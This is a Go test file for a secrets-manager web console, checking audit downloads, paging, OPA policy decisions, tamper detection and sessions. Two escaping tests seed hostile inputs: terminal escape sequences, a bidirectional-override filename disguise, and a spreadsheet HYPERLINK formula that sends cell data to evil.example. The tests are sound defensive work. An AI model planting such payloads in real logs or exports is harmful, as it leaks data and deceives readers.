	v, _ := h.b.Service.Get(context.Background(), "llm/openai_api_key", 0)
	if v.Version.Version != 3 || v.Value.Reveal() != "sk-openai-CANARY-v1-4f9c2a" {
		t.Errorf("after rollback: version %d", v.Version.Version)
	}
	if !strings.Contains(u.get("/ui/delete/db/worker/password").body, "Delete db/worker/password") {
		t.Error("no delete confirmation")
	}
	u.post("/ui/delete/db/worker/password", nil)
	if s, _ := h.b.DB.Secret(context.Background(), "db/worker/password"); !s.Deleted() {
		t.Fatal("not deleted")
	}
	if strings.Contains(u.get("/ui/secrets?prefix=db/worker/").body, "db/worker/password") {
		t.Error("a deleted secret is listed")
	}
	if !strings.Contains(u.get("/ui/secrets?prefix=db/worker/&deleted=1").body, "db/worker/password") {
		t.Error("a deleted secret is not listed with deleted=1")
	}
	if !strings.Contains(u.get("/ui/secret/db/worker/password").body, "/ui/undelete/db/worker/password") {
		t.Error("no undelete on a deleted secret's page")
	}
	u.post("/ui/undelete/db/worker/password", nil)
	if s, _ := h.b.DB.Secret(context.Background(), "db/worker/password"); s.Deleted() {
		t.Fatal("not undeleted")
	}
}

func TestSecretsTreeSearchAndPaging(t *testing.T) {
	h := newHarness(t)
	ctx := audit.WithCaller(context.Background(), audit.Caller{Service: "seed"})
	for i := 0; i < 130; i++ {
		name := fmt.Sprintf("bulk/%s/key_%03d", []string{"eu", "us"}[i%2], i)
		if _, err := h.b.Service.Put(ctx, name, sensitive.New("v"), secrets.PutOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	u := h.as(auditor)
	top := u.get("/ui/secrets").body
	for _, f := range []string{"app/", "bulk/", "db/", "llm/", "platform/"} {
		if !strings.Contains(top, ">"+f+"</a>") {
			t.Errorf("top folder %s missing", f)
		}
	}
	if strings.Contains(top, "bulk/eu/key_000") {
		t.Error("the top lists secrets of subfolders")
	}
	eu := u.get("/ui/secrets?prefix=bulk/eu/")
	rows := regexp.MustCompile(`<a href="/ui/secret/(bulk/eu/key_\d+)">`).FindAllStringSubmatch(eu.body, -1)
	if len(rows) != console.DefaultPageSize || rows[0][1] != "bulk/eu/key_000" {
		t.Fatalf("first page: %d rows", len(rows))
	}
	next := regexp.MustCompile(`<a href="([^"]+)" rel="next">`).FindStringSubmatch(eu.body)
	if next == nil {
		t.Fatal("no next page")
	}
	p2 := u.get(strings.ReplaceAll(next[1], "&amp;", "&")).body
	rows2 := regexp.MustCompile(`<a href="/ui/secret/(bulk/eu/key_\d+)">`).FindAllStringSubmatch(p2, -1)
	if len(rows2) != 15 || rows2[0][1] != "bulk/eu/key_100" || strings.Contains(p2, `rel="next"`) {
		t.Errorf("second page: %d rows from %v", len(rows2), rows2)
	}
	// Search finds every level, case-insensitively.
	s := u.get("/ui/secrets?q=KEY_12").body
	got := regexp.MustCompile(`<a href="/ui/secret/([^"]+)">`).FindAllStringSubmatch(s, -1)
	if len(got) != 10 {
		t.Errorf("search key_12: %d results", len(got))
	}
	if !strings.Contains(u.get("/ui/secrets?q=password").body, "db/gateway/password") {
		t.Error("search does not reach depth 3")
	}
	// A row says who read it last.
	if _, err := h.b.Service.Get(audit.WithCaller(context.Background(), audit.Caller{Service: "gateway"}), "llm/openai_api_key", 0); err != nil {
		t.Fatal(err)
	}
	if !regexp.MustCompile(`llm/openai_api_key</a></td>(?s:.*?)<td>gateway, 0s ago</td>`).MatchString(u.get("/ui/secrets?prefix=llm/").body) {
		t.Error("last read by gateway not shown")
	}
	// Bad input is refused by name.
	if r := u.get("/ui/secrets?prefix=../x"); r.status != 400 {
		t.Errorf("bad prefix: %d", r.status)
	}
	if r := u.get("/ui/secrets?q=" + strings.Repeat("a", 300)); r.status != 400 {
		t.Errorf("long search: %d", r.status)
	}
}

func TestAuditPageFiltersDownloadAndBadge(t *testing.T) {
	h := newHarness(t)
	u := h.as(auditor)
	gw := audit.WithCaller(context.Background(), audit.Caller{Service: "gateway", Source: "10.0.0.7"})
	for i := 0; i < 60; i++ {
		h.b.Service.Get(gw, "llm/openai_api_key", 0)
	}
	h.b.Service.Get(gw, "db/worker/password", 0) // recorded, and readable: the service reads
	if _, err := h.b.VerifyNow(context.Background()); err != nil {
		t.Fatal(err)
	}
	r := u.get("/ui/audit?identity=gateway&secret=llm/openai_api_key")
	rows := strings.Count(r.body, "<td>gateway</td>") + strings.Count(r.body, `>gateway</a>`)
	if rows != console.DefaultPageSize {
		t.Errorf("first page: %d gateway rows", rows)
	}
	if !strings.Contains(r.body, "<strong>Verified</strong> up to event") || !strings.Contains(r.body, "Last checkpoint: event") {
		t.Errorf("badge:\n%s", regexp.MustCompile(`(?s)<div class="badge.*?</div>`).FindString(r.body))
	}
	next := regexp.MustCompile(`<a href="([^"]+)" rel="next">`).FindStringSubmatch(r.body)
	if next == nil {
		t.Fatal("no older page")
	}
	r2 := u.get(strings.ReplaceAll(next[1], "&amp;", "&"))
	if n := strings.Count(r2.body, `>gateway</a>`); n != 10 {
		t.Errorf("second page: %d rows", n)
	}
	if r := u.get("/ui/audit?outcome=maybe"); r.status != 400 {
		t.Errorf("bad outcome: %d", r.status)
	}
	if r := u.get("/ui/audit?since=yesterday-ish"); r.status != 400 {
		t.Errorf("bad since: %d", r.status)
	}
	// CSV: every matching event, not a page; audited.
	c := u.get("/ui/audit.csv?identity=gateway&secret=llm/openai_api_key")
	recs, err := csv.NewReader(strings.NewReader(c.body)).ReadAll()
	if err != nil || len(recs) != 61 || recs[0][0] != "seq" || recs[1][2] != "gateway" {
		t.Fatalf("csv: %v, %d records", err, len(recs))
	}
	if !strings.HasPrefix(c.header.Get("Content-Disposition"), "attachment;") {
		t.Errorf("csv disposition %q", c.header.Get("Content-Disposition"))
	}
	if ev := h.lastEvent(console.ActionAuditExport); ev.Service != auditor || !strings.HasPrefix(ev.Detail, "csv ") {
		t.Errorf("download event %+v", ev)
	}
	j := u.get("/ui/audit.json?action=read&identity=gateway")
	var es []audit.Entry
	if err := json.Unmarshal([]byte(j.body), &es); err != nil || len(es) != 61 {
		t.Fatalf("json: %v, %d events", err, len(es))
	}
	if es[0].Seq <= es[1].Seq {
		t.Error("json not newest first")
	}
	// A download of more than one page of the store.
	for i := 0; i < 1100; i++ {
		h.b.Record(gw, audit.Event{Action: "bulk", Outcome: audit.Success})
	}
	j = u.get("/ui/audit.json?action=bulk")
	es = nil
	if err := json.Unmarshal([]byte(j.body), &es); err != nil || len(es) != 1100 {
		t.Fatalf("json of 1100: %v, %d", err, len(es))
	}
}

// TestOPANarrowsTheConsole: the console decides an operator's access to a
// secret as the API does, identity.Decide then OPA: an admin's reveal that
// OPA denies is refused and audited as OPA's denial, with its decision_id;
// Reveal is not offered.
func TestOPANarrowsTheConsole(t *testing.T) {
	var mu sync.Mutex
	var inputs []map[string]any
	fake := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Input map[string]any `json:"input"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		mu.Lock()
		inputs = append(inputs, body.Input)
		mu.Unlock()
		secret, _ := body.Input["secret"].(map[string]any)
		allow := secret["name"] != "llm/openai_api_key"
		fmt.Fprintf(w, `{"result": %v, "decision_id": "dec-1"}`, allow)
	}))
	defer fake.Close()
	dec, err := opa.New(opa.Options{URL: fake.URL, DecisionPath: opa.DefaultDecisionPath})
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, harnessOpts{opa: dec})
	u := h.as(admin)
	if body := u.get("/ui/secret/llm/openai_api_key").body; strings.Contains(body, `id="reveal"`) {
		t.Error("Reveal offered for an access OPA denies")
	}
	r := u.post("/ui/reveal/llm/openai_api_key", nil)
	if r.status != http.StatusForbidden || strings.Contains(r.body, "CANARY") {
		t.Fatalf("reveal OPA denies: %d", r.status)
	}
	ev := h.lastEvent("reveal")
	if ev.Outcome != audit.Failure || ev.Reason != "denied by opa: denied" || ev.Service != admin || ev.DecisionID != "dec-1" {
		t.Errorf("the refusal's event %+v", ev)
	}
	// The download carries the decision_id, last, which joins the event
	// to OPA's decision log.
	recs, err := csv.NewReader(strings.NewReader(u.get("/ui/audit.csv?action=reveal").body)).ReadAll()
	if err != nil || len(recs) < 2 || recs[0][len(recs[0])-1] != "decision_id" || recs[1][len(recs[1])-1] != "dec-1" {
		t.Errorf("csv download: %v, %q", err, recs)
	}
	// Another secret, which OPA allows: revealed.
	if r := u.post("/ui/reveal/llm/anthropic_api_key", nil); r.status != 200 || !strings.Contains(r.body, seeded["llm/anthropic_api_key"][0]) {
		t.Errorf("reveal OPA allows: %d", r.status)
	}
	// A responder's rotation under incident is asked of OPA too.
	v := h.as(responder)
	if r := v.post("/ui/incidents/open/llm/openai_api_key", url.Values{"reason": {"leaked"}}); r.status != http.StatusSeeOther {
		t.Fatalf("open: %d", r.status)
	}
	if r := v.post("/ui/rotate/llm/openai_api_key", url.Values{"cas": {"2"}, "value": {"new-value"}}); r.status != http.StatusForbidden {
		t.Errorf("a rotation OPA denies: %d", r.status)
	}
	if ev := h.lastEvent("rotate"); ev.Outcome != audit.Failure || ev.Reason != "denied by opa: denied" || ev.Service != responder {
		t.Errorf("the rotation's refusal %+v", ev)
	}
	mu.Lock()
	defer mu.Unlock()
	var asked bool
	for _, in := range inputs {
		id, _ := in["identity"].(map[string]any)
		asked = asked || id["name"] == admin && id["kind"] == "operator" && id["role"] == "admin"
	}
	if !asked {
		t.Errorf("OPA was not asked about the operator: %v", inputs)
	}
}

// TestAuditDownloadBounded: a download stops at the limit and says where,
// in the file itself, so that the next one goes on from there.
func TestAuditDownloadBounded(t *testing.T) {
	h := newHarness(t, harnessOpts{downloadLimit: 1000})
	gw := audit.WithCaller(context.Background(), audit.Caller{Service: "gateway"})
	for i := 0; i < 1100; i++ {
		h.b.Record(gw, audit.Event{Action: "bulk", Outcome: audit.Success})
	}
	u := h.as(auditor)
	var es []map[string]any
	j := u.get("/ui/audit.json?action=bulk")
	if err := json.Unmarshal([]byte(j.body), &es); err != nil || len(es) != 1001 {
		t.Fatalf("json: %v, %d elements", err, len(es))
	}
	note, _ := es[1000]["sa01_download"].(string)
	m := regexp.MustCompile(`^truncated after 1000 events: download the rest with before=(\d+)$`).FindStringSubmatch(note)
	if m == nil {
		t.Fatalf("the last element is not the truncation note: %v", es[1000])
	}
	if last := int64(es[999]["seq"].(float64)); strconv.FormatInt(last, 10) != m[1] {
		t.Errorf("before=%s does not follow the last event %d", m[1], last)
	}
	rest := u.get("/ui/audit.json?action=bulk&before=" + m[1])
	es = nil
	if err := json.Unmarshal([]byte(rest.body), &es); err != nil || len(es) != 100 {
		t.Fatalf("the rest: %v, %d", err, len(es))
	}
	c := u.get("/ui/audit.csv?action=bulk")
	if !strings.Contains(c.body, "\n!!! download truncated after 1000 events: download the rest with before="+m[1]+" !!!\n") {
		t.Error("the CSV does not say where it stopped")
	}
}

// TestAuditDownloadEscapesFields: fields a request chose (the name in a
// refused request's path, an audit query's filter) reach the CSV download
// escaped, as audit query --format csv writes them: no escape sequence for
// the terminal that shows the file, no bidirectional override, no formula.
func TestAuditDownloadEscapesFields(t *testing.T) {
	h := newHarness(t)
	anon := audit.WithCaller(context.Background(), audit.Caller{Source: "10.0.0.9"})
	h.b.Record(anon, audit.Event{Action: "hostile", Outcome: audit.Failure, Reason: "missing token",
		Secret: "\x1b]0;owned\x07\x1b[2J", Detail: "=HYPERLINK(\"http://evil.example/\"&A1)\u202egpj.exe"})
	h.b.Record(anon, audit.Event{Action: "hostile", Outcome: audit.Failure, Secret: "@SUM(1)"})
	c := h.as(auditor).get("/ui/audit.csv?action=hostile")
	if strings.ContainsAny(c.body, "\x1b\x07\u202e") {
		t.Fatalf("raw control or format characters in the CSV: %q", c.body)
	}
	recs, err := csv.NewReader(strings.NewReader(c.body)).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %v, %q", err, recs)
	}
	if got := recs[2][5]; got != `\x1b]0;owned\a\x1b[2J` {
		t.Errorf("secret cell %q", got)
	}
	if got := recs[2][11]; !strings.HasPrefix(got, "'=HYPERLINK(") || !strings.Contains(got, `\u202e`) {
		t.Errorf("detail cell %q", got)
	}
	if got := recs[1][5]; got != "'@SUM(1)" {
		t.Errorf("formula cell %q", got)
	}
}

// TestPagesEscapeFreeText: free text a request chose (an audit event's
// secret from a refused request's path, an incident's reason, a secret's
// description and owner, a note) is shown with control and format
// characters escaped: no bidirectional override reorders the page.
func TestPagesEscapeFreeText(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	hostile := "gpj\u202e\x1b[2J.exe"
	h.b.Record(audit.WithCaller(ctx, audit.Caller{Source: "10.0.0.9"}), audit.Event{Action: "read", Outcome: audit.Failure, Reason: "missing token", Secret: hostile, Detail: hostile})
	if _, err := h.b.Service.Put(ctx, "llm/described", sensitive.New("v"), secrets.PutOptions{Description: hostile, Owner: hostile}); err != nil {
		t.Fatal(err)
	}
	v := h.as(responder)
	if r := v.post("/ui/incidents/open/llm/openai_api_key", url.Values{"reason": {hostile}}); r.status != http.StatusSeeOther {
		t.Fatalf("open: %d %s", r.status, r.body)
	}
	incs := v.get("/ui/incidents")
	id := regexp.MustCompile(`/ui/incident/(INC-[0-9A-Za-z-]+)`).FindStringSubmatch(incs.body)
	if id == nil {
		t.Fatal("no incident listed")
	}
	if r := v.post("/ui/incident/"+id[1]+"/report", url.Values{"note": {hostile}}); r.status >= 400 {
		t.Fatalf("report: %d", r.status)
	}
	u := h.as(admin)
	for _, path := range []string{"/ui/audit", "/ui/audit?secret=" + url.QueryEscape(hostile), "/ui/incidents", "/ui/incident/" + id[1],
		"/ui/secret/llm/described", "/ui/secret/llm/openai_api_key"} {
		r := u.get(path)
		if r.status != 200 {
			t.Errorf("%s: %d", path, r.status)
		}
		// A filter's input keeps the text as typed, to search for it again.
		shown := regexp.MustCompile(`<input [^>]*>`).ReplaceAllString(r.body, "")
		if strings.ContainsAny(shown, "\u202e\x1b") {
			t.Errorf("%s: raw control or format characters", path)
		}
		if !strings.Contains(r.body, `gpj\u202e\x1b[2J.exe`) {
			t.Errorf("%s: the escaped text is not shown", path)
		}
	}
}

func TestChainBadgeShowsTampering(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	if cs, err := h.b.VerifyNow(ctx); err != nil || cs.Problem != nil || cs.Verified != cs.Head {
		t.Fatalf("fresh chain: %+v %v", cs, err)
	}
	// Edit an event the way a database writer would.
	if err := editAuditEvent(h.b.Dir(), 3); err != nil {
		t.Fatal(err)
	}
	h.clock.add(11 * time.Minute) // the next pass starts from the first event
	if _, err := h.b.VerifyNow(ctx); err != nil {
		t.Fatal(err)
	}
	body := h.as(auditor).get("/ui/audit").body
	if !strings.Contains(body, "<strong>Chain broken</strong> at event 3: edited") {
		t.Errorf("badge:\n%s", regexp.MustCompile(`(?s)<div class="badge.*?</div>`).FindString(body))
	}
}

func TestKeysPage(t *testing.T) {
	h := newHarness(t)
	body := h.as(responder).get("/ui/keys").body
	for _, want := range []string{`id="keyring"`, "active", "it is the active key; rotate first", "Done: all 7 live versions are under the primary key",
		"No targets are configured", "platform/internal_token", "180 days", `id="credentials"`} {
		if !strings.Contains(body, want) {
			t.Errorf("keys page lacks %q", want)
		}
	}
	// A credential due within identity.DueWindow (14 days) is listed.
	h.b.IDs.Add("ops-bot", console.KindService, "", 10*24*time.Hour)
	if body := h.as(auditor).get("/ui/keys").body; !strings.Contains(body, "<td>ops-bot</td>") {
		t.Error("a credential due in 10 days is not listed")
	}
}

func TestAccessPage(t *testing.T) {
	h := newHarness(t)
	u := h.as(auditor)
	body := u.get("/ui/access/llm/openai_api_key").body
	for _, want := range []string{"<td>gateway</td>", "policy.yaml:2: gateway read llm/*", "<td>worker</td>", "policy.yaml:3: worker read llm/openai_api_key",
		"<td>alice</td>", "role admin: everything"} {
		if !strings.Contains(body, want) {
			t.Errorf("who can read lacks %q", want)
		}
	}
	for _, not := range []string{"<td>deployer</td>", "<td>audrey</td>", "<td>rita</td>"} {
		if strings.Contains(body, not) {
			t.Errorf("who can read lists %s", not)
		}
	}
	for _, tc := range []struct {
		q, want string
	}{
		{"identity=worker&action=read&secret=llm/anthropic_api_key", "<strong>Denied</strong>: worker read llm/anthropic_api_key. Decided by policy: no rule of the YAML policy grants it"},
		{"identity=deployer&action=write&secret=app/web/session_secret", "<strong>Allowed</strong>: deployer write app/web/session_secret. Decided by policy: policy.yaml:6: deployer write app/**"},
		{"identity=audrey&action=read&secret=llm/openai_api_key", "<strong>Denied</strong>: audrey read llm/openai_api_key. Decided by role: role auditor: never a value"},
		{"identity=rita&action=rotate&secret=llm/openai_api_key", "<strong>Denied</strong>: rita rotate llm/openai_api_key. Decided by role: role responder: rotate of a secret under incident; llm/openai_api_key has no open incident"},
		{"identity=alice&action=destroy&secret=llm/openai_api_key", "<strong>Allowed</strong>: alice destroy llm/openai_api_key. Decided by role: role admin: everything"},
		{"identity=nobody&action=read&secret=llm/openai_api_key", "Decided by none: no such identity"},
	} {
		if body := u.get("/ui/access?" + tc.q).body; !strings.Contains(body, tc.want) {
			t.Errorf("%s: want %q in\n%s", tc.q, tc.want, regexp.MustCompile(`(?s)<div class="decision.*?</div>`).FindString(body))
		}
	}
}

func TestHTMXPinned(t *testing.T) {
	b, err := os.ReadFile("static/htmx.min.js")
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(b)
	if got := hex.EncodeToString(sum[:]); got != console.HTMXSHA256 {
		t.Errorf("static/htmx.min.js has SHA-256 %s; htmx.go records %s", got, console.HTMXSHA256)
	}
	if !strings.Contains(string(b), `version:"`+console.HTMXVersion+`"`) {
		t.Errorf("static/htmx.min.js is not htmx %s", console.HTMXVersion)
	}
	// The file served is the file pinned.
	h := newHarness(t)
	if r := h.newUser().get("/ui/static/htmx.min.js"); r.body != string(b) || r.header.Get("Content-Type") != "text/javascript; charset=utf-8" {
		t.Error("the served htmx differs from the pinned file")
	}
}

// TestReadPagesWithoutJavaScript: every read page is a plain page whose
// links and forms work with no script: the forms of the read pages are
// GET forms, and each mutating form posts its CSRF token.
func TestReadPagesWithoutJavaScript(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	form := regexp.MustCompile(`(?s)<form([^>]*)>(.*?)</form>`)
	for _, p := range pagesOf("INC-x") {
		if strings.HasPrefix(p, "/ui/static/") || strings.HasSuffix(p, ".csv") || strings.HasSuffix(p, ".json") || p == "/ui/signin" {
			continue
		}
		for _, m := range form.FindAllStringSubmatch(u.get(p).body, -1) {
			attrs, inner := m[1], m[2]
			if !strings.Contains(attrs, `action="`) {
				t.Errorf("%s: a form without an action works only with a script: %s", p, attrs)
			}
			if strings.Contains(attrs, `method="post"`) && !strings.Contains(inner, `name="csrf"`) {
				t.Errorf("%s: a POST form without its CSRF token: %s", p, attrs)
			}
		}
	}
}

// editAuditEvent changes the detail of event seq in the store's table, as
// someone with write access to the database would.
func editAuditEvent(dir string, seq int64) error {
	db, err := sql.Open("sqlite", "file:"+filepath.Join(dir, "secrets.db")+"?_pragma=busy_timeout(10000)")
	if err != nil {
		return err
	}
	defer db.Close()
	_, err = db.Exec(`UPDATE audit_events SET detail = 'nothing to see' WHERE seq = ?`, seq)
	return err
}

func TestSigninEndsThePreviousSession(t *testing.T) {
	h := newHarness(t)
	u := h.as(admin)
	old := sessionCookie(t, u)
	// A browser holding that session cookie signs in as someone else.
	v := h.newUser()
	tok := formCSRF.FindStringSubmatch(v.get("/ui/signin").body)[1]
	v.c.Jar.SetCookies(mustURL(h.ts.URL), []*http.Cookie{{Name: "sa01-console", Value: old, Path: "/"}})
	if r := v.post("/ui/signin", url.Values{"csrf": {tok}, "credential": {h.creds[auditor]}}); r.status != http.StatusSeeOther {
		t.Fatalf("sign-in: %d", r.status)
	}
	if sessionCookie(t, v) == old {
		t.Fatal("the session cookie was kept")
	}
	if r := u.get("/ui/secrets"); r.status != http.StatusSeeOther {
		t.Errorf("the session before the sign-in still works: %d", r.status)
	}
}

func sessionCookie(t *testing.T, u *user) string {
	t.Helper()
	for _, c := range u.c.Jar.Cookies(mustURL(u.h.ts.URL)) {
		if c.Name == "sa01-console" {
			return c.Value
		}
	}
	t.Fatal("no session cookie")
	return ""
}

// flaky is a backend whose identities cannot be read while down is set.
type flaky struct {
	*consoletest.Backend
	down bool
}

func (f *flaky) Identify(ctx context.Context, who console.Identity) (console.Identity, error) {
	if f.down {
		return console.Identity{}, console.ErrUnavailable
	}
	return f.Backend.Identify(ctx, who)
}

// TestIdentitiesUnavailable: when the identities cannot be read, a request
// is refused and the session is kept.
func TestIdentitiesUnavailable(t *testing.T) {
	h := newHarness(t)
	f := &flaky{Backend: h.b}
	h.ts.Config.Handler = console.New(console.Options{Backend: f, Now: h.clock.now})
	u := h.as(admin)
	f.down = true
	if r := u.get("/ui/secret/llm/openai_api_key"); r.status != http.StatusServiceUnavailable || strings.Contains(r.body, "CANARY") {
		t.Errorf("identities down: %d", r.status)
	}
	f.down = false
	if r := u.get("/ui/secrets"); r.status != 200 {
		t.Errorf("identities back: %d", r.status)
	}
}

// TestAuditRareFilterIsSearchedByWindows: a filter no index serves is
// searched a bounded window of events per page, and the pages go on
// until the oldest event.
func TestAuditRareFilterIsSearchedByWindows(t *testing.T) {
	h := newHarness(t)
	h.b.SetAuditWindow(100)
	ctx := audit.WithCaller(context.Background(), audit.Caller{Service: "gateway"})
	h.b.Record(ctx, audit.Event{Action: "rare-action", Outcome: audit.Success, Detail: "the only one"})
	for i := 0; i < 350; i++ {
		h.b.Record(ctx, audit.Event{Action: "bulk", Outcome: audit.Success})
	}
	u := h.as(auditor)
	next, pages := "/ui/audit?action=rare-action", 0
	for {
		pages++
		r := u.get(next)
		if strings.Contains(r.body, "the only one") {
			break
		}
		if !strings.Contains(r.body, `id="looked-to"`) {
			t.Fatalf("page %d neither holds the event nor says how far it looked:\n%s", pages, r.body)
		}
		m := regexp.MustCompile(`<a href="([^"]+)" rel="next">`).FindStringSubmatch(r.body)
		if m == nil || pages > 10 {
			t.Fatalf("page %d: no way to older events", pages)
		}
		next = strings.ReplaceAll(m[1], "&amp;", "&")
	}
	if pages < 4 {
		t.Errorf("found on page %d: the window did not bound the search", pages)
	}
	// Filters an index serves are not windowed.
	if r := u.get("/ui/audit?identity=gateway&action=rare-action"); !strings.Contains(r.body, "the only one") {
		t.Error("an indexed filter did not find the event on its first page")
	}
	// Since: no older page once the events below the window are older.
	if r := u.get("/ui/audit?action=none-such&since=2026-11-02T09:01:00Z"); strings.Contains(r.body, `rel="next"`) {
		t.Error("since: an older page of events all older than since")
	}
	if r := u.get("/ui/audit?action=none-such&since=2026-11-02T08:59:00Z"); !strings.Contains(r.body, `rel="next"`) {
		t.Error("since: no older page where older events are within since")
	}
}

func TestChainBadgeShowsSinks(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	f, err := audit.OpenFile(filepath.Join(t.TempDir(), "audit.jsonl"), nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h.b.SetSinks(f, "sa01.audit")
	head, err := h.b.DB.AuditHead(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := h.b.DB.SetAuditCursor(ctx, "kafka:sa01.audit", head.Seq-3); err != nil {
		t.Fatal(err)
	}
	u := h.as(auditor) // its sign-in and its first page add two events
	badge := regexp.MustCompile(`(?s)<div class="badge.*?</div>`).FindString(u.get("/ui/audit").body)
	for _, want := range []string{"file: in step", "kafka sa01.audit: 5 events behind", "(MAC verified)"} {
		if !strings.Contains(badge, want) {
			t.Errorf("badge lacks %q:\n%s", want, badge)
		}
	}
}
